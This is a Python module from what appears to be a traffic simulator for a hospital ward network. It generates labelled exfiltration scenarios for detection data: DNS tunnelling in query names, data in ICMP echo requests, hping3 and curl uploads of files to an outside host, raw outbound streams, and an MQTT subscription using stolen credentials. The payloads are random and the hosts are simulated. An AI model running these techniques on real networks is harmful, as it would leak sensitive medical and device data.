"""Data that leaves the ward: in names, in echo requests, in uploads, and from the broker to a stranger."""
import contextlib, os, socket, struct, time

from ..benign import network
from . import covert, dns_packets, raw, scenario, talk
from .mqtt import PORT, client_id, stolen

# Roles that ask for no names of their own: all that they ask is the attack.
QUIET = "pump", "ecg", "ventilator", "camera"


def names(scene, dice, zone):
    """Names with stolen data in them, as fast as this tunnel goes."""
    most, rate = dice.randint(10, 140), 2 ** dice.uniform(2, 6.5)
    head = dice.choice(("", "", f"{talk.words(dice, 1)[0]}."))
    for number, _ in enumerate(talk.beats(scene, dice, rate, 2 * scene.seconds)):
        blob = struct.pack(">H", number & 0xFFFF) + dice.randbytes(dice.randint(most // 2, most))
        yield head + dns_packets.encoded(blob, dice, zone)


@scenario("exfil-dns", "EXFILTRATION", "a device that asks a name server outside for very long names")
def dns_direct(scene):
    device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
    zone, kind = dns_packets.zone(dice), dice.choice((dns_packets.TXT, dns_packets.NULL, dns_packets.CNAME,
                                                      dns_packets.A,
                                                      dns_packets.MX))
    with dns_packets.serving(scene, server, server.address, dice.randint(4, 900)):
        with scene.attack(device.address, server.address, 17, 53):
            scene.call(device, dns_packets.ask_all, device.address, server.address, dice,
                       names(scene, dice, zone), kind,
                       dice.random() < 0.5)


@scenario("exfil-dns-resolver", "EXFILTRATION", "the same by way of the ward's own resolver")
def dns_by_resolver(scene):
    device, dice = covert.compromised(scene, QUIET), scene.dice
    server, resolver = scene.plan["attacker"], scene.host("services")
    zone = network.stranger(scene.plan)
    kind = dice.choice((dns_packets.TXT, dns_packets.CNAME, dns_packets.A, dns_packets.MX))
    with dns_packets.serving(scene, server, server.address, dice.randint(4, 180)):
        with (scene.attack(device.address, resolver.address, 17, 53),
              scene.attack(resolver.address, server.address, 17, 53)):
            scene.call(device, dns_packets.ask_all, device.address, resolver.address, dice,
                       names(scene, dice, zone), kind,
                       dice.random() < 0.5)


@scenario("exfil-icmp", "EXFILTRATION", "a device whose echo requests carry data")
def icmp(scene):
    device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
    size, rate = int(2 ** dice.uniform(5, 10.3)), 2 ** dice.uniform(1, 7)
    identifier, counts = dice.getrandbits(16), dice.random() < 0.7

    def work(_, dice):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sending:
            for number, _ in enumerate(talk.beats(scene, dice, rate, 2 * scene.seconds)):
                data = dice.randbytes(dice.randint(size // 2, size))
                head = struct.pack(">HH", identifier, number & 0xFFFF if counts else 1)
                sending.sendto(raw.icmp(8, head + data), (server.address, 0))
    with scene.attack(device.address, server.address, 1):
        talk.crew(scene, device, [0], work)


@scenario("exfil-hping", "EXFILTRATION", "hping3 that sends a file in echo requests", ["hping3"])
def hping(scene):
    device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
    path = scene.file("records.csv", "\n".join(" ".join(talk.words(dice, 6)) for _ in range(4000)))
    rate = 2 ** dice.uniform(2, 6)
    with scene.attack(device.address, server.address, 1):
        scene.run(device, "hping3", "-q", "-1", "-I", "eth0", "-a", device.address, "-E", path, "-d",
                  dice.randint(60, 1300),
                  "-i", f"u{int(1e6 / rate)}", "-c", int(rate * 2 * scene.seconds), server.address,
                  seconds=2 * scene.seconds + 2)


@scenario("exfil-upload", "EXFILTRATION", "curl that puts a large file on a server outside", ["curl"])
def upload(scene):
    device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
    port = dice.choice((80, 8080, 8000, dice.randint(1024, 65535)))
    text = "".join(dice.choices("0123456789abcdef", k=99)) * dice.randint(2_000, 30_000)
    path = scene.file("archive.zip", text)
    speed = dice.choice(("150k", "300k", "600k", "1M"))
    how = dice.choice((["-T", path], ["-F", f"file=@{path}"], ["--data-binary", f"@{path}"]))

    def answer(connection, _):
        if covert.whole_request(connection):
            connection.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")
    with (talk.serving(scene, server, port, answer),
          talk.blamed(scene, [device.address], server.address, port, tail=6)):
        scene.run(device, "curl", "-s", "-H", "Expect:", "--limit-rate", speed, *how,
                  f"http://{server.address}:{port}/{talk.words(dice, 1)[0]}", seconds=2.5 * scene.seconds)


@scenario("exfil-stream", "EXFILTRATION",
          "a device that pours data into a connection outwards, in one go or in parts")
def stream(scene):
    device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
    port = dice.choice((443, 22, 53, 4444, dice.randint(1024, 65535)))
    size, rate, kept = int(2 ** dice.uniform(9, 14)), 2 ** dice.uniform(2, 6), dice.random() < 0.6
    chatty = dice.random() < 0.5

    def answer(connection, _):
        while connection.recv(65536):
            if chatty:
                connection.sendall(b"\x06")

    def work(_, dice):
        beats = talk.beats(scene, dice, min(rate, 600_000 / size), 2 * scene.seconds)
        for _ in beats:
            with (contextlib.suppress(OSError),
                  talk.conversation(device.address, server.address, port, dice) as connection):
                for _ in beats:
                    connection.sendall(os.urandom(dice.randint(size // 2, size)))
                    talk.drain(connection)
                    if not kept and dice.random() < 0.2:
                        break
                time.sleep(0.1)
    with (talk.serving(scene, server, port, answer),
          talk.blamed(scene, [device.address], server.address, port, tail=4)):
        talk.crew(scene, device, [0], work)


@scenario("mqtt-harvest", "EXFILTRATION", "mosquitto_sub: a stranger hears everything that the broker knows",
          ["mosquitto_sub"])
def harvest(scene):
    stranger, broker, dice = scene.outsider(), scene.host("broker"), scene.dice
    filters = dice.choice((["#"], ["#", "$SYS/#"], ["+/#"], ["$SYS/#", "+/+/#"], ["#"]))
    options = [word for pattern in filters for word in ("-t", pattern)]
    options += [word for pair in zip(("-u", "-P"), stolen(scene.plan).values()) for word in pair]
    options += ["-i", client_id(dice)] * dice.randrange(2)
    options += dice.choice(([], ["-k", 5], ["-k", 60]))
    options += ["-q", dice.randrange(3), "-V", dice.choice(("mqttv31", "mqttv311", "5")), "-v"]
    with talk.blamed(scene, [stranger.address], broker.address, PORT, tail=4):
        for _ in talk.beats(scene, dice, 2, 1.5 * scene.seconds):
            seconds = dice.randint(2, max(3, int(1.5 * scene.seconds)))
            scene.run(stranger, "mosquitto_sub", "-h", broker.address, *options, "-W", seconds,
                      seconds=seconds + 2)
